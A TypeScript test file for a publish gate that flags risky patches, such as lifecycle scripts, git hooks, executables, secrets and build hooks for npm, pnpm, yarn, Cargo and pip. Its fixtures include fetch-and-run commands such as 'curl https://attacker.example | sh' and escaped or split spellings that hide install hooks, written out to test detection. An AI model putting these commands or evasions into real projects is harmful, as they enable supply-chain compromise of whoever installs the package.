// The publish gate's findings (RELIABILITY B7) on hand-written patches: each kind named with its file and
// line, what is not a finding left alone, the allowed kinds checked, and megabytes of one character in a
// patch's lines scanned without trouble.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { FINDING_KINDS, gateFindings, parseFindingKinds } from "../../../src/publish/gate-findings.js";
import { INI_TOML_MAX_CHARS, YAML_MAX_CHARS } from "../../../src/publish/manifests.js";
import type { PatchSides } from "../../../src/publish/patch-sides.js";
import { summarizePatch, type RunReport } from "../../../src/report/index.js";
import { smallFixReport } from "../report/support/report-builders.js";
import { patchCase, textSides } from "../../support/patch-sides.js";

function added(file: string, lines: string[], header = ["new file mode 100644"]): string {
  return [
    `diff --git a/${file} b/${file}`,
    ...header,
    "--- /dev/null",
    `+++ b/${file}`,
    `@@ -0,0 +1,${lines.length} @@`,
    ...lines.map((l) => `+${l}`),
    "",
  ].join("\n");
}

function reportFor(patch: string): RunReport {
  return { ...smallFixReport(), patch: summarizePatch(patch) };
}

const find = (patch: string, sides: PatchSides = textSides(""), maxBinaryBytes = 1024) =>
  gateFindings(reportFor(patch), patch, { maxBinaryBytes, sides }).then((all) =>
    all.map((f) => `${f.kind} ${f.file}${f.line ? `:${f.line}` : ""}`),
  );
/** The findings of `after` written over `base`, the patch made and read by git as publish does. */
const findChange = async (base: Record<string, string>, after: Record<string, string | null>) => {
  const { patch, sides } = await patchCase(base, after);
  return find(patch, sides);
};

describe("gateFindings", () => {
  it("B7 names lifecycle scripts in any package.json, minified or not, and the package managers' own hooks", async () => {
    expect(
      await findChange(
        {},
        {
          "package.json": '{\n  "scripts": {\n    "test": "vitest",\n    "prepare": "husky"\n  }\n}\n',
          "packages/a/package.json": '{"scripts":{"preinstall":"node x.js"}}\n',
          ".npmrc": "registry=https://registry.npmjs.org/\nscript-shell=/tmp/x\n",
          ".pnpmfile.cjs": "module.exports = {}\n",
        },
      ),
    ).toEqual([
      "lifecycle_script .npmrc:2",
      "lifecycle_script .pnpmfile.cjs:1",
      "lifecycle_script package.json:4",
      "lifecycle_script packages/a/package.json:1",
    ]);
  });

  it("B7 names committed git hooks, new executables and binaries over the limit; leaves the rest alone", async () => {
    const binary = (file: string, size: number) =>
      [
        `diff --git a/${file} b/${file}`,
        "new file mode 100644",
        "index 0000000..1111111",
        "GIT binary patch",
        `literal ${size}`,
        "zcmV?d00001",
        "",
        "literal 0",
        "HcmV?d00001",
        "",
        "",
      ].join("\n");
    const patch = [
      added(".husky/pre-push", ["npm test"], ["new file mode 100755"]),
      added(".pre-commit-config.yaml", ["repos: []"]),
      added("bin/tool", ["#!/bin/sh"], ["new file mode 100755"]),
      "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n",
      binary("big.bin", 4096),
      binary("small.bin", 10),
      added("src/a.js", ['const scripts = { "postinstall": 1 };']),
      added("docs/husky.md", ["Use .husky/pre-commit"]),
    ].join("");
    expect(await find(patch)).toEqual([
      "git_hook .husky/pre-push:1",
      "executable .husky/pre-push:1",
      "git_hook .pre-commit-config.yaml:1",
      "executable bin/tool:1",
      "executable run.sh",
      "large_binary big.bin",
    ]);
  });

  it("B7 finds secrets in agent-ci's formats and secretlint's, each on its line, never with the value", async () => {
    const key = ["wJalrXUtnFEMI", "K7MDENG", "bPxRfiCYz1x2y3KEYQ"].join("/");
    const github = ["ghp", "abcdefghijklmnopqrstuvwxyz0123456789"].join("_");
    const patch = [
      added("a.rb", ["x = 1", `:aws_secret_access_key => "${key}" # secretlint-disable-line`]),
      added("b.js", [`const t = "${github}";`]),
    ].join("");
    const findings = await gateFindings(reportFor(patch), patch, {
      maxBinaryBytes: 1024,
      sides: textSides(""),
    });
    expect(findings.map((f) => `${f.kind} ${f.file}:${f.line}`)).toEqual([
      "secret b.js:1",
      "secret a.rb:2",
      "secret b.js:1",
    ]);
    expect(JSON.stringify(findings)).not.toContain(key);
    expect(JSON.stringify(findings)).not.toContain(github);
  });

  it.each(["a", '"', ":", "\n", "\0", "+", "-----BEGIN ", '"postinstall":'])(
    "takes megabytes of %j in a file's lines",
    { timeout: 60_000 },
    async (unit) => {
      const text = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
      const line = text.replace(/\n/g, " ");
      const patch = added("package.json", [line]);
      expect(Array.isArray(await find(patch, textSides(line)))).toBe(true);
    },
  );
});

/**
 * npm's own reading of a project holding `files` (the npm on this machine; npm 11 here): `npm pkg get …` or
 * `npm config get …`, with no user or global configuration and none from the environment.
 */
function npmReads(files: Record<string, string>, ...args: string[]): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "agent-ci-npm-"));
  for (const [rel, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, rel), text);
  // Two files: npm refuses to load one file as both.
  const [user, global] = ["user.npmrc", "global.npmrc"].map((name) => path.join(dir, name));
  for (const file of [user, global]) fs.writeFileSync(file as string, "");
  const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !/^npm_config_/i.test(k)));
  return execFileSync("npm", [...args, `--userconfig=${user}`, `--globalconfig=${global}`], {
    cwd: dir,
    env,
    encoding: "utf8",
    stdio: ["ignore", "pipe", "pipe"],
  }).trim();
}

/** pip's reading of pyproject.toml's [build-system] (Python's tomllib, the tomli pip uses), as JSON. */
const pipBuildSystem = (text: string): string =>
  execFileSync(
    "python3",
    [
      "-c",
      "import json,sys,tomllib; print(json.dumps(tomllib.loads(sys.stdin.read()).get('build-system'), sort_keys=True))",
    ],
    { input: text, encoding: "utf8" },
  ).trim();

describe("the gate reads each file as its package manager or build tool does, on both sides of the patch", () => {
  const manifest = '{\n  "name": "calc",\n  "version": "1.0.0"\n}\n';

  it("B13 a lifecycle script spelled with a JSON escape is the script npm runs", async () => {
    const escaped = '{\n  "name": "calc",\n  "scripts": {\n    "post\\u0069nstall": "node evil.js"\n  }\n}\n';
    expect(JSON.parse(npmReads({ "package.json": escaped }, "pkg", "get", "scripts"))).toEqual({
      postinstall: "node evil.js",
    });
    expect(await findChange({ "package.json": manifest }, { "package.json": escaped })).toEqual([
      "lifecycle_script package.json:3",
    ]);
  });

  it("B13 a lifecycle key split from its colon across lines is the script npm runs", async () => {
    const split = '{\n  "name": "calc",\n  "scripts": {\n    "prepare"\n      : "node evil.js"\n  }\n}\n';
    expect(JSON.parse(npmReads({ "package.json": split }, "pkg", "get", "scripts"))).toEqual({
      prepare: "node evil.js",
    });
    expect(await findChange({ "package.json": manifest }, { "package.json": split })).toEqual([
      "lifecycle_script package.json:4",
    ]);
  });

  it("B13 a new binding.gyp is a finding: npm runs node-gyp rebuild on install when one is there, and its actions run any program", async () => {
    const gyp =
      "{ 'targets': [ { 'target_name': 'x', 'actions': [ { 'action_name': 'a', 'inputs': [], 'outputs': ['o'], 'action': ['sh', '-c', 'curl https://attacker.example | sh'] } ] } ] }\n";
    expect(await findChange({ "package.json": manifest }, { "binding.gyp": gyp })).toEqual([
      "lifecycle_script binding.gyp:1",
    ]);
  });

  it.each([
    ["node-gyp", "node-gyp=./tools/evil.js"],
    ["script-shell", '"script\\u002dshell"=./tools/evil.js'],
    ["git", "${AGENT_CI_UNSET_VARIABLE?}git=./tools/evil.js"],
    ["shell", "  shell = ./tools/evil.js ; a comment"],
  ])("B13 .npmrc %s, written as npm still reads it (%s), is a finding", async (key, line) => {
    const npmrc = `registry=https://registry.npmjs.org/\n${line}\n`;
    expect(npmReads({ "package.json": manifest, ".npmrc": npmrc }, "config", "get", key)).toMatch(
      /tools\/evil\.js$/,
    );
    expect(
      await findChange({ ".npmrc": "registry=https://registry.npmjs.org/\n" }, { ".npmrc": npmrc }),
    ).toEqual(["lifecycle_script .npmrc:2"]);
  });

  it.each([
    ["yarnPath", '"yarnPath": .yarn/evil.cjs\n'],
    ["plugins", "{ plugins: [ ./tools/evil-plugin.cjs ] }\n"],
  ])("B13 .yarnrc.yml %s, in any YAML spelling, is a finding", async (_key, yarnrc) => {
    expect(await findChange({}, { ".yarnrc.yml": yarnrc })).toEqual(["lifecycle_script .yarnrc.yml:1"]);
  });

  it("B13 pnpm's hooks file is a finding: .pnpmfile.cjs, and pnpmfile in .npmrc or pnpm-workspace.yaml naming another", async () => {
    expect(
      await findChange(
        { "pnpm-workspace.yaml": "packages:\n  - .\n" },
        {
          ".pnpmfile.cjs": "module.exports = { hooks: {} }\n",
          ".npmrc": "pnpmfile=tools/install-hooks.cjs\n",
          "pnpm-workspace.yaml": "packages:\n  - .\npnpmfile: [tools/install-hooks.cjs]\n",
          "tools/install-hooks.cjs": "module.exports = { hooks: {} }\n",
        },
      ),
    ).toEqual([
      "lifecycle_script .npmrc:1",
      "lifecycle_script .pnpmfile.cjs:1",
      "lifecycle_script pnpm-workspace.yaml:3",
    ]);
    // A merge key, which pnpm's YAML reader (js-yaml) merges into the map.
    expect(
      await findChange(
        { "pnpm-workspace.yaml": "packages:\n  - .\n" },
        {
          "pnpm-workspace.yaml":
            "packages:\n  - .\nshared: &hooks\n  pnpmfile: [tools/install-hooks.cjs]\n<<: *hooks\n",
        },
      ),
    ).toEqual(["lifecycle_script pnpm-workspace.yaml:4"]);
  });

  it("B13 a Cargo build script is a finding: a new build.rs, or package.build naming another", async () => {
    const cargo = '[package]\nname = "calc"\nversion = "0.1.0"\n';
    expect(await findChange({ "Cargo.toml": cargo }, { "build.rs": "fn main() {}\n" })).toEqual([
      "lifecycle_script build.rs:1",
    ]);
    expect(
      await findChange({ "Cargo.toml": cargo }, { "Cargo.toml": `${cargo}"build" = "tools/gen.rs"\n` }),
    ).toEqual(["lifecycle_script Cargo.toml:4"]);
  });

  it("B13 setup.py, new or changed, is a finding: pip runs it to build and install the package", async () => {
    const setup = "from setuptools import setup\nsetup(name='calc')\n";
    expect(await findChange({}, { "setup.py": setup })).toEqual(["lifecycle_script setup.py:1"]);
    expect(
      await findChange(
        { "setup.py": setup },
        { "setup.py": `import os\nos.system('curl x | sh')\n${setup}` },
      ),
    ).toEqual(["lifecycle_script setup.py:1"]);
  });

  it("B13 a changed [build-system] in pyproject.toml, as pip reads it, is a finding; the rest of the file is not", async () => {
    const project = '[project]\nname = "calc"\nversion = "1.0"\n';
    const build =
      '[build-system]\nrequires = [\n  "setuptools>=61",\n]\nbuild-backend = "setuptools.build_meta"\n\n';
    const base = { "pyproject.toml": `${build}${project}` };
    const cases: Array<[string, string[]]> = [
      // A line inside the requirements' array: no key on it.
      [
        build.replace('  "setuptools>=61",\n', '  "setuptools>=61",\n  "build-helper",\n') + project,
        ["lifecycle_script pyproject.toml:4"],
      ],
      // The table's name spelled with an escape, at the end of the file.
      [
        `${project}\n["build\\u002dsystem"]\nrequires = ["evil"]\nbuild-backend = "evil"\n`,
        ["lifecycle_script pyproject.toml:6", "lifecycle_script pyproject.toml:7"],
      ],
      // A header inside a multi-line string is text, not a table; a multi-line value of the table is read whole.
      [`${build}${project}\n[tool.notes]\ntext = """\n[build-system]\nrequires = ["evil"]\n"""\n`, []],
      [
        build.replace('"setuptools.build_meta"', '"""\n[tool.x]\nevil_backend"""') + project,
        ["lifecycle_script pyproject.toml:5"],
      ],
      // Dotted keys at the top, in place of the table.
      [
        `build-system.requires = ["evil"]\nbuild-system.build-backend = "evil"\n${project}`,
        ["lifecycle_script pyproject.toml:1", "lifecycle_script pyproject.toml:2"],
      ],
      // The same table laid out anew, and the project's version changed: nothing pip builds with changed.
      [
        `${project.replace("1.0", "1.1")}\n[build-system]\nbuild-backend = "setuptools.build_meta" # the default\nrequires = ["setuptools>=61"]\n`,
        [],
      ],
      // The same values in other spellings (literal strings, an inline table): the table pip reads is the same.
      [
        `build-system = { requires = ['setuptools>=61'], "build-backend" = '''setuptools.build_meta''' }\n${project}`,
        [],
      ],
    ];
    for (const [after, expected] of cases) {
      expect(pipBuildSystem(after) !== pipBuildSystem(base["pyproject.toml"]), after).toBe(
        expected.length > 0,
      );
      expect(await findChange(base, { "pyproject.toml": after }), after).toEqual(expected);
    }
  });

  it("B13 a settings file over the size the gate parses (ini and TOML 1 MiB, YAML 64 KiB) is a finding; one within it is read", async () => {
    // One comment line of `chars` characters, newline included: no setting in it.
    const comment = (chars: number) => `#${"x".repeat(chars - 2)}\n`;
    const limits: Array<[string, number]> = [
      [".npmrc", INI_TOML_MAX_CHARS],
      ["pyproject.toml", INI_TOML_MAX_CHARS],
      ["Cargo.toml", INI_TOML_MAX_CHARS],
      [".yarnrc.yml", YAML_MAX_CHARS],
    ];
    for (const [file, limit] of limits) {
      // The file on the patched side, over a patch that adds one line of it.
      const patch = added(file, ["#x"]);
      const read = (text: string) =>
        gateFindings(reportFor(patch), patch, { maxBinaryBytes: 1024, sides: textSides(text) });
      expect(await read(comment(limit)), file).toEqual([]);
      expect(await read(comment(limit + 1)), file).toEqual([
        {
          kind: "lifecycle_script",
          file,
          line: 1,
          detail: expect.stringMatching(/ does not parse \(\w+ of at most (?:1 MiB|64 KiB), as /),
        },
      ]);
    }
  });

  it("B13 a package.json that does not parse is a finding: what it runs cannot be checked", async () => {
    const broken = '{\n  "name": "calc",\n  "version": "1.0.1",\n}\n';
    expect(() => npmReads({ "package.json": broken }, "pkg", "get", "scripts")).toThrow();
    const found = await patchCase({ "package.json": manifest }, { "package.json": broken });
    const findings = await gateFindings(reportFor(found.patch), found.patch, {
      maxBinaryBytes: 1024,
      sides: found.sides,
    });
    expect(findings).toEqual([
      {
        kind: "lifecycle_script",
        file: "package.json",
        line: 3,
        detail:
          "package.json does not parse (JSON, as npm, pnpm and yarn read it), so what it runs cannot be checked",
      },
    ]);
  });

  it("B13 a removed or unchanged lifecycle script is not a finding, read from the base commit; a changed one is", async () => {
    const base = {
      "package.json":
        '{"name":"calc","version":"1.0.0","scripts":{"postinstall":"node setup.js","test":"vitest"}}\n',
      ".npmrc": "script-shell=/bin/bash\n",
    };
    const pretty = (scripts: Record<string, string>) =>
      `${JSON.stringify({ name: "calc", version: "1.0.1", scripts }, null, 2)}\n`;
    expect(
      await findChange(base, {
        "package.json": pretty({ test: "vitest --run", postinstall: "node setup.js" }),
        ".npmrc": "registry=https://registry.npmjs.org/\nscript-shell = /bin/bash\n",
      }),
    ).toEqual([]);
    expect(await findChange(base, { "package.json": pretty({ test: "vitest" }), ".npmrc": null })).toEqual(
      [],
    );
    expect(await findChange(base, { "package.json": null })).toEqual([]);
    expect(
      await findChange(base, { "package.json": pretty({ postinstall: "node setup.js && curl x | sh" }) }),
    ).toEqual(["lifecycle_script package.json:5"]);
  });
});

describe("parseFindingKinds", () => {
  it("takes the known kinds once each and refuses an unknown one", () => {
    expect(parseFindingKinds(["secret", "git_hook", "secret"])).toEqual(["secret", "git_hook"]);
    expect(() => parseFindingKinds(["all"])).toThrow(
      `unknown finding kind(s) "all": one of ${FINDING_KINDS.join(", ")}`,
    );
  });
});
